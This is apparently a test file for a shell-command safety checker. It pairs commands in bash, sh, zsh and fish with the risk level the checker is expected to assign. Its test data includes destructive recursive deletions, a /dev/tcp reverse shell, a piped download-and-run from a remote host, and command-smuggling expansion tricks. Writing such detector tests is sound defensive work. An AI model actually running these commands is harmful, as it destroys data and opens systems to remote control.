// Fail closed in every dialect: a construct the checker does not read is never
// "safe", and the dialect's own ways of running code are judged.
import { beforeAll, describe, expect, test } from "bun:test";
import { loadChecker, type CheckShell, type Checker, type Risk } from "../../../src/safety/index.ts";

let checker: Checker;
beforeAll(async () => {
  checker = await loadChecker();
});

const rows: Record<CheckShell, [cmd: string, want: Risk | "not safe"][]> = {
  bash: [
    ["coproc x { rm -rf /; }", "critical"],
    ["echo $(( ", "not safe"],
    ["x=( a b", "not safe"],
    ["gi\\\nt reset --hard", "high"],
    ["rm -rf \\\n /", "critical"],
    ["exec 196<>/dev/tcp/198.51.100.4/4444; sh <&196 >&196 2>&196", "critical"],
    ["x='$(rm -rf ~)'; echo ${x@P}", "critical"],
    ["echo ${y@P}", "not safe"],
    ["echo hi", "safe"],
  ],
  sh: [
    ["rm -rf /", "critical"],
    ["case $x in *) rm -rf ~;; esac", "critical"],
    ["if then fi", "not safe"],
    ["ls -la", "safe"],
  ],
  zsh: [
    ["repeat 3 rm -rf /", "critical"],
    ["=rm -rf ~", "critical"],
    ["ls *(e:'rm -rf /':)", "critical"],
    ["ls *(+myfilter)", "not safe"],
    ["echo ${(j:,:)arr} | (", "not safe"],
    ["ls *(.)", "safe"],
    ["print -l *.txt", "safe"],
  ],
  fish: [
    ["echo 'rm -rf /' | source", "critical"],
    ["string join ' ' rm -rf / | source", "critical"],
    ["curl http://198.51.100.4/x | source", "critical"],
    ["cat script.fish | source", "not safe"],
    ["rm -rf (echo /)", "critical"],
    ["eval (echo rm -rf ~)", "critical"],
    ["alias ls 'rm -rf ~'", "critical"],
    ["echo (", "not safe"],
    ["set x hello; echo $x", "safe"],
  ],
};

for (const [shell, table] of Object.entries(rows) as [CheckShell, (typeof rows)["bash"]][])
  describe(`${shell}`, () => {
    for (const [cmd, want] of table)
      test(`${JSON.stringify(cmd)} is ${want}`, () => {
        const r = checker.check(cmd, { shell });
        if (want === "not safe") expect({ cmd, risk: r.risk }).not.toEqual({ cmd, risk: "safe" });
        else expect({ cmd, risk: r.risk, rules: r.findings.map((f) => f.rule) }).toMatchObject({ cmd, risk: want });
      });
  });
